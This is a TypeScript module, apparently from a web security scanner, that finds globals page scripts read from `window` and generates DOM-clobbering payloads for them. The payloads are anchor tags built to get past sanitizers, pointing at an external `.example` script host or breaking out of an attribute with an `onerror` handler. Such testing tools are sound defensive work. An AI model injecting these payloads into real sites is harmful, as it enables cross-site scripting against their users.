import { matches } from './matches.ts';

const maxNames = 6;
const maxProperties = 6;
const maxAliases = 20;
const readsGlobal = /\bwindow\.([A-Za-z_$][\w$]{1,40})\b(?!\s{0,5}(?:\(|=[^=]))/g;

/** A variable that a page looks for in its window, and what it reads of it. */
export interface GlobalRead {
  readonly name: string;
  readonly properties: readonly string[];
}

/** Variables that scripts read as properties of the window: elements with such an id take their place. */
export function globalsIn(scripts: readonly string[]): readonly GlobalRead[] {
  const text = scripts.join('\n').slice(0, 200_000);
  const names = [...new Set(matches(text, readsGlobal))].slice(0, maxNames);
  return names.map((name) => ({ name, properties: propertiesOf(name, text) }));
}

function propertiesOf(name: string, text: string): readonly string[] {
  const global = name.replaceAll('$', '\\$');
  const alias = new RegExp(`([A-Za-z_$][\\w$]{0,40})\\s{0,5}=\\s{0,5}window\\.${global}\\b`, 'g');
  // Each becomes a part of a pattern, and a hostile script may have any number of them.
  const aliases = [...new Set(matches(text, alias))].slice(0, maxAliases);
  const objects = [global, ...aliases.map((one) => one.replaceAll('$', '\\$'))];
  const read = new RegExp(`(?<![\\w$])(?:${objects.join('|')})\\.([A-Za-z_$][\\w$]{0,40})\\b(?!\\s{0,5}\\()`, 'g');
  return [...new Set(matches(text, read))].slice(0, maxProperties);
}

/**
 * Markup without script, which sanitizers let through: links that stand for the variables, and whose URLs are a script
 * that runs `code`, or break out of the attribute into which the page writes them.
 */
export function clobberingPayloads(globals: readonly GlobalRead[], code: string): readonly string[] {
  if (globals.length === 0) return [];
  const urls = [`//${code}.example/`, `cid:&quot;onerror=${code}(1)//`];
  return urls.map((url) => globals.map((one) => linksFor(one, url)).join(''));
}

function linksFor({ name, properties }: GlobalRead, url: string): string {
  // Two elements of one id are a collection, whose properties are the names of its elements.
  const named = properties.map((property) => `<a id="${name}" name="${property}" href="${url}"></a>`);
  return [`<a id="${name}" href="${url}"></a>`, ...named].join('');
}
